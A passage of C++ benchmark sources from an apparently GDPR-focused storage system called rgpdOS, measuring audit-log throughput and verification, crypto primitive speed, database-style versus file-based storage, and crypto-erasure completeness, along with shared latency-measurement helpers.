       {"foreground_idle_p99_us", idle_p99},
       {"foreground_sweeping_p50_us", busy_p50},
       {"foreground_sweeping_p99_us", busy_p99},
       {"foreground_p99_interference_ratio", p99_ratio},
       {"daemon_erased_during_contention", double(erased_during)},
       {"daemon_drain_seconds", drain_secs},
       {"daemon_sweeps", double(fos.retention().sweep_count())}});
  return 0;
}
