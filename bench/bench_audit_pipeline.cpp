// Durable audit pipeline bench (DESIGN.md §14):
//
//   1. Producer throughput — N threads Record through an AuditSink into
//      the bounded queue + background writer; entries/sec at the
//      producer side and the drain (Flush) side. The acceptance bar is
//      ZERO dropped entries: backpressure must absorb the burst.
//   2. Remount verification — decode + SHA-256 chain-verify the whole
//      sealed log from the store, as a regulator or reboot would.
//   3. Storage — sealed segment compression ratio (raw vs stored bytes)
//      and the byte-stability of the regulator export across a remount.
//
// Artifact: BENCH_audit_pipeline.json.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>
#include <vector>

#include "bench/bench_util.hpp"
#include "core/regulator_export.hpp"
#include "sentinel/audit_pipeline.hpp"

namespace rgpdos::bench {
namespace {

constexpr unsigned kProducers = 4;
constexpr int kPerProducer = 5000;
constexpr std::uint64_t kTotal =
    std::uint64_t(kProducers) * std::uint64_t(kPerProducer);

using Clk = std::chrono::steady_clock;

double Secs(Clk::time_point from, Clk::time_point to) {
  return std::chrono::duration<double>(to - from).count();
}

sentinel::AuditEntry MakeEntry(unsigned producer, int i) {
  sentinel::AuditEntry entry;
  entry.at = 1'000'000 + std::int64_t(producer) * kPerProducer + i;
  entry.request.subject = sentinel::Domain::kDed;
  entry.request.object = sentinel::Domain::kDbfs;
  entry.request.op =
      (i % 3 == 0) ? sentinel::Operation::kRead : sentinel::Operation::kWrite;
  entry.request.detail =
      "table=user subject=" + std::to_string(1 + (i % 97)) + " producer=" +
      std::to_string(producer);
  entry.allowed = (i % 5 != 0);
  entry.rule = entry.allowed ? "allow ded->dbfs purpose" : "default-deny";
  return entry;
}

}  // namespace
}  // namespace rgpdos::bench

int main() {
  using namespace rgpdos;
  using namespace rgpdos::bench;

  // A dedicated store: 4 KiB blocks, 32 MiB medium, generous journal.
  SimClock clock(1000);
  blockdev::MemBlockDevice medium(4096, 8192);
  inodefs::InodeStore::Options store_options;
  store_options.inode_count = 512;
  store_options.journal_blocks = 256;
  auto store = inodefs::InodeStore::Format(&medium, store_options, &clock);
  if (!store.ok()) std::abort();
  auto manifest = (*store)->AllocInode(inodefs::InodeKind::kFile);
  if (!manifest.ok()) std::abort();

  sentinel::AuditPipelineOptions options;  // production defaults
  auto pipeline = sentinel::DurableAuditPipeline::Create(
      store->get(), *manifest, options);
  if (!pipeline.ok()) std::abort();
  sentinel::AuditSink sink;
  sink.AttachPipeline(pipeline->get());

  // ---- phase 1: concurrent producers through the sink ----------------------
  const auto produce_start = Clk::now();
  std::vector<std::thread> producers;
  producers.reserve(kProducers);
  for (unsigned p = 0; p < kProducers; ++p) {
    producers.emplace_back([&, p] {
      for (int i = 0; i < kPerProducer; ++i) sink.Record(MakeEntry(p, i));
    });
  }
  for (auto& t : producers) t.join();
  const auto produce_end = Clk::now();
  if (auto flushed = (*pipeline)->Flush(); !flushed.ok()) {
    std::fprintf(stderr, "flush failed: %s\n", flushed.ToString().c_str());
    return 1;
  }
  const auto drain_end = Clk::now();

  const double produce_secs = Secs(produce_start, produce_end);
  const double drain_secs = Secs(produce_start, drain_end);
  const std::uint64_t dropped = sink.dropped_count();
  const std::uint64_t lost = (*pipeline)->lost_entries();
  std::printf("produce:      %llu entries from %u threads in %.3fs "
              "(%.0f entries/s)\n",
              static_cast<unsigned long long>(kTotal), kProducers,
              produce_secs, double(kTotal) / produce_secs);
  std::printf("drain:        durable after %.3fs (%.0f entries/s), "
              "backpressure waits=%llu timeouts=%llu\n",
              drain_secs, double(kTotal) / drain_secs,
              static_cast<unsigned long long>(
                  (*pipeline)->backpressure_waits()),
              static_cast<unsigned long long>(
                  (*pipeline)->backpressure_timeouts()));
  if (dropped != 0 || lost != 0) {
    std::fprintf(stderr,
                 "FAIL: evidence lost (dropped=%llu lost=%llu) — the "
                 "backpressure contract is broken\n",
                 static_cast<unsigned long long>(dropped),
                 static_cast<unsigned long long>(lost));
    return 1;
  }
  sink.AttachPipeline(nullptr);
  (*pipeline)->Stop();

  // ---- phase 2: remount + full chain verification --------------------------
  const auto verify_start = Clk::now();
  auto entries =
      sentinel::DurableAuditPipeline::LoadEntries(store->get(), *manifest);
  const double verify_secs = Secs(verify_start, Clk::now());
  if (!entries.ok() || entries->size() != kTotal) {
    std::fprintf(stderr, "FAIL: remount verification lost entries (%s)\n",
                 entries.status().ToString().c_str());
    return 1;
  }
  std::printf("verify:       %llu entries chain-verified in %.3fs "
              "(%.0f entries/s)\n",
              static_cast<unsigned long long>(entries->size()), verify_secs,
              double(entries->size()) / verify_secs);

  // ---- phase 3: storage + export stability ---------------------------------
  auto log = auditlog::SegmentedLog::Mount(store->get(), *manifest,
                                           options.segments);
  if (!log.ok()) std::abort();
  std::uint64_t raw_bytes = (*log)->active_raw_bytes();
  std::uint64_t stored_bytes = (*log)->active_raw_bytes();
  for (const auto& segment : (*log)->sealed()) {
    auto stored = store->get()->ReadAll(segment.inode);
    if (!stored.ok()) std::abort();
    raw_bytes += segment.raw_size;
    stored_bytes += stored->size();
  }
  const double ratio =
      stored_bytes > 0 ? double(raw_bytes) / double(stored_bytes) : 0;
  std::printf("storage:      %zu sealed segments, %.2f MiB raw -> %.2f MiB "
              "stored (%.2fx)\n",
              (*log)->sealed().size(), double(raw_bytes) / (1 << 20),
              double(stored_bytes) / (1 << 20), ratio);

  auto export_before =
      core::RegulatorExporter::ExportAuditTrail(store->get(), *manifest);
  if (!export_before.ok()) std::abort();
  store->reset();
  auto remounted = inodefs::InodeStore::Mount(&medium, &clock);
  if (!remounted.ok()) std::abort();
  auto export_after =
      core::RegulatorExporter::ExportAuditTrail(remounted->get(), *manifest);
  if (!export_after.ok() || *export_after != *export_before) {
    std::fprintf(stderr, "FAIL: regulator export changed across remount\n");
    return 1;
  }
  std::printf("export:       %.2f MiB JSONL, byte-identical across remount\n",
              double(export_before->size()) / (1 << 20));

  DumpBenchArtifact(
      "audit_pipeline",
      {{"entries", double(kTotal)},
       {"producers", double(kProducers)},
       {"produce_entries_per_sec", double(kTotal) / produce_secs},
       {"drain_entries_per_sec", double(kTotal) / drain_secs},
       {"verify_entries_per_sec", double(kTotal) / verify_secs},
       {"dropped", double(dropped)},
       {"lost", double(lost)},
       {"backpressure_waits", double((*pipeline)->backpressure_waits())},
       {"backpressure_timeouts",
        double((*pipeline)->backpressure_timeouts())},
       {"sealed_segments", double((*log)->sealed().size())},
       {"compression_ratio", ratio},
       {"export_bytes", double(export_before->size())}});
  return 0;
}
