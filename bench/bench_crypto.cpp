// G7 — crypto substrate throughput: the cost floor under the erasure
// design (SHA-256, ChaCha20, HMAC, RSA, full envelopes).
#include <benchmark/benchmark.h>

#include "crypto/envelope.hpp"
#include "crypto/hmac.hpp"
#include "crypto/rsa.hpp"
#include "crypto/sha256.hpp"

using namespace rgpdos;
using namespace rgpdos::crypto;

namespace {

Bytes MakeBuffer(std::size_t size) {
  Bytes buffer(size);
  for (std::size_t i = 0; i < size; ++i) {
    buffer[i] = static_cast<std::uint8_t>(i * 31);
  }
  return buffer;
}

const RsaKeyPair& SharedKeyPair() {
  static const RsaKeyPair keypair = [] {
    SecureRandom rng(123);
    return *RsaGenerate(1024, rng);
  }();
  return keypair;
}

void BM_Sha256(benchmark::State& state) {
  const Bytes buffer = MakeBuffer(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(Sha256Hash(buffer));
  }
  state.SetBytesProcessed(std::int64_t(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_Sha256)->Arg(64)->Arg(4096)->Arg(65536);

void BM_HmacSha256(benchmark::State& state) {
  const Bytes key = MakeBuffer(32);
  const Bytes buffer = MakeBuffer(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(HmacSha256(key, buffer));
  }
  state.SetBytesProcessed(std::int64_t(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_HmacSha256)->Arg(4096);

void BM_ChaCha20(benchmark::State& state) {
  ChaChaKey key{};
  ChaChaNonce nonce{};
  const Bytes buffer = MakeBuffer(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(ChaCha20Xor(key, nonce, 1, buffer));
  }
  state.SetBytesProcessed(std::int64_t(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_ChaCha20)->Arg(4096)->Arg(65536);

void BM_RsaEncrypt(benchmark::State& state) {
  SecureRandom rng(7);
  const Bytes message = MakeBuffer(44);  // key-wrap sized
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        RsaEncrypt(SharedKeyPair().public_key, message, rng));
  }
}
BENCHMARK(BM_RsaEncrypt)->Iterations(200);

void BM_RsaDecrypt(benchmark::State& state) {
  SecureRandom rng(7);
  const Bytes message = MakeBuffer(44);
  const Bytes ciphertext =
      *RsaEncrypt(SharedKeyPair().public_key, message, rng);
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        RsaDecrypt(SharedKeyPair().private_key, ciphertext));
  }
}
BENCHMARK(BM_RsaDecrypt)->Iterations(50);

void BM_EnvelopeSeal(benchmark::State& state) {
  SecureRandom rng(7);
  const Bytes pd = MakeBuffer(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(Seal(SharedKeyPair().public_key, pd, rng));
  }
  state.SetBytesProcessed(std::int64_t(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_EnvelopeSeal)->Arg(256)->Arg(4096)->Iterations(200);

void BM_EnvelopeOpen(benchmark::State& state) {
  SecureRandom rng(7);
  const Bytes pd = MakeBuffer(4096);
  const Envelope envelope = *Seal(SharedKeyPair().public_key, pd, rng);
  for (auto _ : state) {
    benchmark::DoNotOptimize(Open(SharedKeyPair().private_key, envelope));
  }
}
BENCHMARK(BM_EnvelopeOpen)->Iterations(50);

void BM_RsaKeygen1024(benchmark::State& state) {
  SecureRandom rng(99);
  for (auto _ : state) {
    benchmark::DoNotOptimize(RsaGenerate(1024, rng));
  }
}
BENCHMARK(BM_RsaKeygen1024)->Iterations(3);

}  // namespace

BENCHMARK_MAIN();
