// G4 — Idea 3: database-oriented filesystem vs file-based filesystem.
// Typed record operations on DBFS against file-per-record operations on
// the traditional FS, over growing populations.
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

int main() {
  std::printf("=== G4: DBFS (typed records) vs file-based FS ===\n");
  std::printf("%-8s %-22s %14s %14s %14s\n", "records", "system",
              "put (us)", "get (us)", "subject scan (us)");

  for (std::size_t n : {200u, 1000u}) {
    // ---- file-based FS: one file per record, path = subject/record ------
    {
      SystemClock clock;
      blockdev::MemBlockDevice device(4096, n * 6 + 4096);
      inodefs::InodeStore::Options options;
      options.inode_count = static_cast<std::uint32_t>(n * 2 + 256);
      options.journal_blocks = 512;
      auto store = inodefs::InodeStore::Format(&device, options, &clock);
      if (!store.ok()) std::abort();
      auto fs = inodefs::FileSystem::Create(store->get());
      if (!fs.ok()) std::abort();
      const dsl::TypeDecl decl = bench::BenchUserDecl();
      const db::Schema schema = decl.ToSchema();
      Rng rng(42);
      const auto population = workload::GeneratePopulation(decl, n, rng);

      if (!fs->Mkdir("/pd").ok()) std::abort();
      Stopwatch watch;
      for (const auto& person : population) {
        const std::string path =
            "/pd/u" + std::to_string(person.subject_id);
        if (!fs->WriteFile(path, schema.EncodeRow(person.row)).ok()) {
          std::abort();
        }
      }
      const double put_us = bench::NsToUs(watch.ElapsedNanos()) / double(n);

      watch.Restart();
      for (const auto& person : population) {
        auto raw = fs->ReadFile("/pd/u" + std::to_string(person.subject_id));
        if (!raw.ok() || !schema.DecodeRow(*raw).ok()) std::abort();
      }
      const double get_us = bench::NsToUs(watch.ElapsedNanos()) / double(n);

      // "Subject scan": find one subject's data knowing only its id —
      // the FS must list the directory and match names.
      watch.Restart();
      for (int probe = 0; probe < 16; ++probe) {
        const std::string needle = "u" + std::to_string(1 + probe);
        auto entries = fs->ReadDir("/pd");
        if (!entries.ok()) std::abort();
        bool found = false;
        for (const auto& entry : *entries) found |= entry.name == needle;
        if (!found) std::abort();
      }
      const double scan_us = bench::NsToUs(watch.ElapsedNanos()) / 16.0;
      std::printf("%-8zu %-22s %14.2f %14.2f %14.1f\n", n,
                  "file-based FS", put_us, get_us, scan_us);
    }
    // ---- DBFS -------------------------------------------------------------
    {
      // Boot an empty world (keygen etc. excluded), then time the puts.
      core::BootConfig config;
      config.dbfs_blocks = n * 14 + 2048;
      config.inode_count = static_cast<std::uint32_t>(n * 6 + 256);
      auto booted = core::RgpdOs::Boot(config);
      if (!booted.ok()) std::abort();
      bench::RgpdWorld world;
      world.os = std::move(booted).value();
      if (!world.os->DeclareTypes(bench::kBenchTypes).ok()) std::abort();
      const dsl::TypeDecl decl = bench::BenchUserDecl();
      Rng rng(42);
      const auto population = workload::GeneratePopulation(decl, n, rng);
      Stopwatch put_watch;
      for (const auto& person : population) {
        membrane::Membrane m = decl.DefaultMembrane(
            person.subject_id, world.os->clock().Now());
        auto id = world.os->dbfs().Put(sentinel::Domain::kDed,
                                       person.subject_id, "user",
                                       person.row, std::move(m));
        if (!id.ok()) std::abort();
        world.records.push_back(*id);
      }
      const double put_us =
          bench::NsToUs(put_watch.ElapsedNanos()) / double(n);

      Stopwatch watch;
      for (dbfs::RecordId id : world.records) {
        auto record = world.os->dbfs().Get(sentinel::Domain::kDed, id);
        if (!record.ok()) std::abort();
      }
      const double get_us = bench::NsToUs(watch.ElapsedNanos()) / double(n);

      watch.Restart();
      for (int probe = 0; probe < 16; ++probe) {
        auto records = world.os->dbfs().RecordsOfSubject(
            sentinel::Domain::kDed, 1 + probe);
        if (!records.ok() || records->empty()) std::abort();
      }
      const double scan_us = bench::NsToUs(watch.ElapsedNanos()) / 16.0;
      std::printf("%-8zu %-22s %14.2f %14.2f %14.1f\n", n,
                  "DBFS (typed+membrane)", put_us, get_us, scan_us);
    }
  }
  std::printf(
      "\nexpected shape: DBFS pays extra on put (membrane + two trees), "
      "roughly matches on typed get, and wins on subject-scoped queries "
      "(subject tree vs directory enumeration) — increasingly so with "
      "scale.\n");
  return 0;
}
