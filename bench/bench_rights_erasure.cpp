// G2 — right to be forgotten: latency and completeness of erasure as the
// record payload grows. Baseline tombstone+compact is O(table); rgpdOS
// crypto-erase is O(record) + journal scrub, and actually destroys the
// bytes (completeness column = leaked plaintext blocks afterwards).
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

namespace {

// A dedicated type carrying a sizable payload.
std::string BlobTypeSource() {
  return R"(
type blob {
  fields { owner: string, payload: bytes };
  consent { keep: all };
  origin: subject;
  sensitivity: high;
}
)";
}

Bytes MarkedPayload(std::size_t size, std::uint64_t subject) {
  Bytes payload = ToBytes(workload::SubjectMarker(subject));
  payload.resize(size, 0x55);
  return payload;
}

}  // namespace

int main() {
  std::printf("=== G2: right-to-be-forgotten latency & completeness ===\n");
  std::printf("%-12s %-24s %14s %18s\n", "record size", "system",
              "us/erasure", "leaked blocks");

  for (std::size_t payload_size : {256u, 4096u, 32768u}) {
    const std::size_t subjects = 64;
    // ---- baseline --------------------------------------------------------
    {
      bench::BaselineWorld world = bench::MakeBaselineWorld(4);
      auto decl = dsl::ParseType(BlobTypeSource());
      if (!decl.ok() || !world.engine->CreateType(*decl).ok()) std::abort();
      for (std::uint64_t s = 1; s <= subjects; ++s) {
        auto id = world.engine->Insert(
            "blob", s,
            db::Row{db::Value("owner" + std::to_string(s)),
                    db::Value(MarkedPayload(payload_size, s))});
        if (!id.ok()) std::abort();
      }
      Stopwatch watch;
      for (std::uint64_t s = 1; s <= subjects; ++s) {
        if (!world.engine->DeleteSubject(s, /*compact=*/true).ok()) {
          std::abort();
        }
      }
      const double us =
          bench::NsToUs(watch.ElapsedNanos()) / double(subjects);
      std::uint64_t leaked = 0;
      for (std::uint64_t s = 1; s <= subjects; ++s) {
        leaked += blockdev::CountBlocksContaining(
            *world.device, ToBytes(workload::SubjectMarker(s)));
      }
      std::printf("%-12zu %-24s %14.1f %18llu\n", payload_size,
                  "baseline (compact)", us,
                  static_cast<unsigned long long>(leaked));
    }
    // ---- rgpdOS crypto-erase ----------------------------------------------
    {
      core::BootConfig config;
      config.dbfs_blocks = subjects * (payload_size / 4096 + 4) + 4096;
      config.inode_count = subjects * 4 + 256;
      auto booted = core::RgpdOs::Boot(config);
      if (!booted.ok()) std::abort();
      auto& os = **booted;
      if (!os.DeclareTypes(BlobTypeSource()).ok()) std::abort();
      auto type = os.dbfs().GetType(sentinel::Domain::kDed, "blob");
      for (std::uint64_t s = 1; s <= subjects; ++s) {
        membrane::Membrane m = (*type)->DefaultMembrane(s, os.clock().Now());
        auto id = os.dbfs().Put(
            sentinel::Domain::kDed, s, "blob",
            db::Row{db::Value("owner" + std::to_string(s)),
                    db::Value(MarkedPayload(payload_size, s))},
            std::move(m));
        if (!id.ok()) std::abort();
      }
      Stopwatch watch;
      for (std::uint64_t s = 1; s <= subjects; ++s) {
        if (!os.RightToBeForgotten(s).ok()) std::abort();
      }
      const double us =
          bench::NsToUs(watch.ElapsedNanos()) / double(subjects);
      std::uint64_t leaked = 0;
      for (std::uint64_t s = 1; s <= subjects; ++s) {
        leaked += blockdev::CountBlocksContaining(
            os.dbfs_device(), ToBytes(workload::SubjectMarker(s)));
      }
      std::printf("%-12zu %-24s %14.1f %18llu\n", payload_size,
                  "rgpdOS (crypto-erase)", us,
                  static_cast<unsigned long long>(leaked));
    }
  }
  std::printf(
      "\nexpected shape: rgpdOS pays a fixed RSA-envelope + scrub cost "
      "per record, while the baseline pays a table scan + compaction "
      "rewrite per subject - which dominates at these table sizes. "
      "Whatever the latency, only rgpdOS reaches zero leaked blocks; the "
      "baseline's 'delete' leaves plaintext at every size.\n");
  return 0;
}
