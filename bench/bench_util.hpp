// Shared setup for the benchmark harness: boots populated rgpdOS and
// baseline worlds with the same synthetic subject population, so every
// bench compares like against like.
#pragma once

#include <algorithm>
#include <cmath>
#include <cstdlib>
#include <fstream>
#include <functional>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "baseline/baseline_engine.hpp"
#include "core/rgpdos.hpp"
#include "dsl/parser.hpp"
#include "metrics/metrics.hpp"
#include "workload/workload.hpp"

namespace rgpdos::bench {

// The canonical bench type: Listing-1-shaped, with an `analytics`
// purpose consented through the anonymising view and a `full` purpose
// with an `all` consent.
inline constexpr std::string_view kBenchTypes = R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  view v_ano { year_of_birthdate };
  consent { analytics: v_ano, full: all };
  origin: subject;
  sensitivity: high;
}
type age {
  fields { value: int };
  consent { full: all };
  origin: subject;
  sensitivity: low;
}
)";

inline dsl::TypeDecl BenchUserDecl() {
  auto program = dsl::Parse(kBenchTypes);
  return program->types.front();
}

struct RgpdWorld {
  std::unique_ptr<core::RgpdOs> os;
  /// user records, in put order (subject i owns records
  /// [i*per_subject, (i+1)*per_subject)).
  std::vector<dbfs::RecordId> records;
  std::size_t subjects = 0;
  std::size_t per_subject = 0;
};

/// Boot an rgpdOS world holding `subjects * per_subject` marked user
/// records. `consent_fraction` of subjects keep the default `analytics`
/// consent; the rest have it revoked. `worker_threads` sizes the DED
/// executor pool (1 = historical inline execution; see BootConfig).
/// `tweak` runs on the assembled BootConfig last, so a bench can flip
/// cache knobs or install a device latency profile without this helper
/// growing a parameter per knob.
inline RgpdWorld MakeRgpdWorld(
    std::size_t subjects, std::size_t per_subject = 1,
    double consent_fraction = 1.0, unsigned worker_threads = 1,
    const std::function<void(core::BootConfig&)>& tweak = {}) {
  RgpdWorld world;
  world.subjects = subjects;
  world.per_subject = per_subject;

  core::BootConfig config;
  config.worker_threads = worker_threads;
  // Sized with headroom for one derived record per source record (the
  // analytics purpose stores an `age` row per user).
  const std::uint64_t needed_blocks =
      subjects * per_subject * 14 + subjects * 2 + 2048;
  config.dbfs_blocks = needed_blocks;
  config.inode_count =
      static_cast<std::uint32_t>(subjects * per_subject * 6 + subjects + 256);
  config.journal_blocks = 512;
  if (tweak) tweak(config);
  auto booted = core::RgpdOs::Boot(config);
  if (!booted.ok()) {
    std::fprintf(stderr, "boot failed: %s\n",
                 booted.status().ToString().c_str());
    std::abort();
  }
  world.os = std::move(booted).value();
  if (auto d = world.os->DeclareTypes(kBenchTypes); !d.ok()) std::abort();

  const dsl::TypeDecl decl = BenchUserDecl();
  Rng rng(42);
  const auto population =
      workload::GenerateMarkedPopulation(decl, subjects, rng);
  for (const auto& person : population) {
    const bool consents =
        double(person.subject_id - 1) < consent_fraction * double(subjects);
    for (std::size_t r = 0; r < per_subject; ++r) {
      membrane::Membrane m =
          decl.DefaultMembrane(person.subject_id, world.os->clock().Now());
      if (!consents) m.RevokeConsent("analytics");
      auto id = world.os->dbfs().Put(sentinel::Domain::kDed,
                                     person.subject_id, "user", person.row,
                                     std::move(m));
      if (!id.ok()) {
        std::fprintf(stderr, "put failed: %s\n",
                     id.status().ToString().c_str());
        std::abort();
      }
      world.records.push_back(*id);
    }
  }
  return world;
}

/// Register the `analytics` processing (derives an `age` row per record).
inline core::ProcessingId RegisterAnalytics(core::RgpdOs& os,
                                            bool derive_output = true) {
  core::ImplManifest manifest;
  manifest.claimed_purpose = "analytics";
  manifest.fields_read = {"year_of_birthdate"};
  manifest.output_type = derive_output ? "age" : "";
  const std::string source =
      derive_output
          ? "purpose analytics { input: user.v_ano; output: age; }"
          : "purpose analytics { input: user.v_ano; }";
  auto id = os.RegisterProcessingSource(
      source,
      [derive_output](core::ProcessingInput& input)
          -> Result<core::ProcessingOutput> {
        core::ProcessingOutput output;
        if (!input.Has("year_of_birthdate")) return output;
        RGPD_ASSIGN_OR_RETURN(db::Value year,
                              input.Field("year_of_birthdate"));
        if (derive_output) {
          output.derived_row = db::Row{db::Value(2026 - *year.AsInt())};
        }
        return output;
      },
      manifest);
  if (!id.ok()) {
    std::fprintf(stderr, "register failed: %s\n",
                 id.status().ToString().c_str());
    std::abort();
  }
  return *id;
}

struct BaselineWorld {
  std::unique_ptr<SystemClock> clock;
  std::unique_ptr<blockdev::MemBlockDevice> device;
  std::unique_ptr<inodefs::InodeStore> store;
  std::unique_ptr<inodefs::FileSystem> fs;
  std::unique_ptr<baseline::BaselineEngine> engine;
  std::vector<db::RowId> rows;
  std::size_t subjects = 0;
  std::size_t per_subject = 0;
};

/// The Fig-2 comparator world with the SAME population. `subject_index`
/// selects the ablation variant (indexed rights, same leaks).
inline BaselineWorld MakeBaselineWorld(std::size_t subjects,
                                       std::size_t per_subject = 1,
                                       bool subject_index = false) {
  BaselineWorld world;
  world.subjects = subjects;
  world.per_subject = per_subject;
  world.clock = std::make_unique<SystemClock>();
  world.device = std::make_unique<blockdev::MemBlockDevice>(
      4096, subjects * per_subject * 8 + 4096);
  inodefs::InodeStore::Options options;
  options.inode_count =
      static_cast<std::uint32_t>(subjects * per_subject + 512);
  options.journal_blocks = 512;
  auto store =
      inodefs::InodeStore::Format(world.device.get(), options,
                                  world.clock.get());
  if (!store.ok()) std::abort();
  world.store = std::move(store).value();
  auto fs = inodefs::FileSystem::Create(world.store.get());
  if (!fs.ok()) std::abort();
  world.fs = std::make_unique<inodefs::FileSystem>(std::move(fs).value());
  auto engine = baseline::BaselineEngine::Create(
      world.fs.get(), "/db", world.clock.get(), subject_index);
  if (!engine.ok()) std::abort();
  world.engine = std::make_unique<baseline::BaselineEngine>(
      std::move(engine).value());

  auto program = dsl::Parse(kBenchTypes);
  for (const dsl::TypeDecl& decl : program->types) {
    if (auto s = world.engine->CreateType(decl); !s.ok()) std::abort();
  }
  const dsl::TypeDecl decl = BenchUserDecl();
  Rng rng(42);
  const auto population =
      workload::GenerateMarkedPopulation(decl, subjects, rng);
  for (const auto& person : population) {
    for (std::size_t r = 0; r < per_subject; ++r) {
      auto id = world.engine->Insert("user", person.subject_id, person.row);
      if (!id.ok()) std::abort();
      world.rows.push_back(*id);
    }
  }
  return world;
}

/// Microseconds-per-op pretty printer.
inline double NsToUs(std::int64_t ns) { return double(ns) / 1000.0; }

/// Total simulated device time accumulated by the PD stores' latency
/// models, across EVERY shard (0 when the world booted without a latency
/// profile). Benches report device-normalized throughput by dividing
/// work by wall time + the DELTA of this across the measured section.
inline std::uint64_t SimulatedDeviceNanos(core::RgpdOs& os) {
  std::uint64_t ns = 0;
  for (std::size_t shard = 0; shard < os.shard_count(); ++shard) {
    if (auto* latency = os.dbfs_latency(shard)) ns += latency->simulated_ns();
    if (auto* latency = os.sensitive_latency(shard)) {
      ns += latency->simulated_ns();
    }
  }
  return ns;
}

/// One shard's simulated device time alone (per-shard server clocks in
/// the open-loop scale-out driver).
inline std::uint64_t SimulatedDeviceNanosOfShard(core::RgpdOs& os,
                                                 std::size_t shard) {
  std::uint64_t ns = 0;
  if (auto* latency = os.dbfs_latency(shard)) ns += latency->simulated_ns();
  if (auto* latency = os.sensitive_latency(shard)) {
    ns += latency->simulated_ns();
  }
  return ns;
}

/// Combined block-cache counters across the PD stores of every shard
/// (zeros when the world booted with cache_blocks = 0).
inline blockdev::BlockCacheStats BlockCacheStatsOf(core::RgpdOs& os) {
  blockdev::BlockCacheStats total;
  for (std::size_t shard = 0; shard < os.shard_count(); ++shard) {
    for (blockdev::BlockCacheDevice* cache :
         {os.dbfs_cache(shard), os.sensitive_cache(shard)}) {
      if (cache == nullptr) continue;
      const blockdev::BlockCacheStats s = cache->CacheStats();
      total.hits += s.hits;
      total.misses += s.misses;
      total.evictions += s.evictions;
      total.invalidations += s.invalidations;
    }
  }
  return total;
}

// ---- latency accounting (shared by the mix / parallel / scale-out
// benches) -----------------------------------------------------------------

/// Per-op latency samples with percentile readout. Stores every sample
/// (bench op counts are bounded), sorts lazily on first percentile read.
class LatencyReservoir {
 public:
  void Record(double ns) {
    samples_.push_back(ns);
    sorted_ = false;
  }

  [[nodiscard]] std::size_t count() const { return samples_.size(); }

  [[nodiscard]] double mean_ns() const {
    if (samples_.empty()) return 0;
    double total = 0;
    for (const double s : samples_) total += s;
    return total / double(samples_.size());
  }

  /// Nearest-rank percentile, q in [0, 1]. p50 = Percentile(0.50).
  [[nodiscard]] double PercentileNs(double q) {
    if (samples_.empty()) return 0;
    if (!sorted_) {
      std::sort(samples_.begin(), samples_.end());
      sorted_ = true;
    }
    const auto rank = static_cast<std::size_t>(
        std::ceil(q * double(samples_.size())));
    return samples_[std::min(rank == 0 ? 0 : rank - 1, samples_.size() - 1)];
  }

  [[nodiscard]] double P50Us() { return PercentileNs(0.50) / 1000.0; }
  [[nodiscard]] double P99Us() { return PercentileNs(0.99) / 1000.0; }
  [[nodiscard]] double P999Us() { return PercentileNs(0.999) / 1000.0; }

 private:
  std::vector<double> samples_;
  bool sorted_ = true;
};

/// Open-loop (target-QPS) arrival schedule with per-server completion
/// accounting — the load model GDPRbench-style drivers need to surface
/// queueing delay instead of the closed-loop back-off that hides it.
///
/// Arrivals are Poisson: successive gaps are exponential with mean
/// 1/qps, drawn from a seeded Rng so a run is reproducible. Each op is
/// dispatched to one server (shard); a server is a FIFO queue, so the op
/// starts at max(arrival, server-free time) and completes start +
/// service. The recorded latency is the SOJOURN time (completion -
/// arrival): service plus time spent queued behind earlier ops on the
/// same shard. An overloaded shard therefore shows up as an exploding
/// p99, exactly like a real open-loop harness.
class OpenLoopRecorder {
 public:
  OpenLoopRecorder(double target_qps, std::size_t servers,
                   std::uint64_t seed = 7)
      : gap_mean_ns_(1e9 / target_qps),
        rng_(seed),
        server_free_ns_(servers, 0.0),
        server_ops_(servers, 0) {}

  /// Draw the next Poisson arrival time (virtual ns since run start).
  double NextArrivalNs() {
    // Inverse-CDF exponential; 1 - U in (0, 1] keeps log() finite.
    next_arrival_ns_ += -gap_mean_ns_ * std::log(1.0 - rng_.NextDouble());
    return next_arrival_ns_;
  }

  /// Account one completed op: dispatched at `arrival_ns` to `server`,
  /// costing `service_ns` of server time. Returns the sojourn time.
  double Complete(double arrival_ns, std::size_t server, double service_ns) {
    double& free_at = server_free_ns_[server];
    const double start = std::max(arrival_ns, free_at);
    free_at = start + service_ns;
    ++server_ops_[server];
    const double sojourn = free_at - arrival_ns;
    latency_.Record(sojourn);
    makespan_ns_ = std::max(makespan_ns_, free_at);
    return sojourn;
  }

  /// Account one fan-out op that occupies EVERY server (regulator scans,
  /// schema ops): each server is busy for its own share, the op
  /// completes when the slowest server drains. One latency sample; the
  /// op counts toward every server it ran on.
  double CompleteFanOut(double arrival_ns,
                        const std::vector<double>& service_per_server) {
    double completion = arrival_ns;
    for (std::size_t s = 0; s < server_free_ns_.size(); ++s) {
      double& free_at = server_free_ns_[s];
      const double start = std::max(arrival_ns, free_at);
      free_at = start + service_per_server[s];
      ++server_ops_[s];
      completion = std::max(completion, free_at);
    }
    const double sojourn = completion - arrival_ns;
    latency_.Record(sojourn);
    makespan_ns_ = std::max(makespan_ns_, completion);
    return sojourn;
  }

  [[nodiscard]] LatencyReservoir& latency() { return latency_; }
  [[nodiscard]] std::size_t server_count() const {
    return server_free_ns_.size();
  }
  [[nodiscard]] std::uint64_t server_ops(std::size_t server) const {
    return server_ops_[server];
  }
  /// Virtual time at which the last op drained (>= the last arrival).
  [[nodiscard]] double MakespanNs() const { return makespan_ns_; }
  /// Achieved throughput over the drain horizon, ops/s.
  [[nodiscard]] double AchievedOpsPerSec() const {
    return makespan_ns_ > 0
               ? double(latency_.count()) / (makespan_ns_ / 1e9)
               : 0;
  }
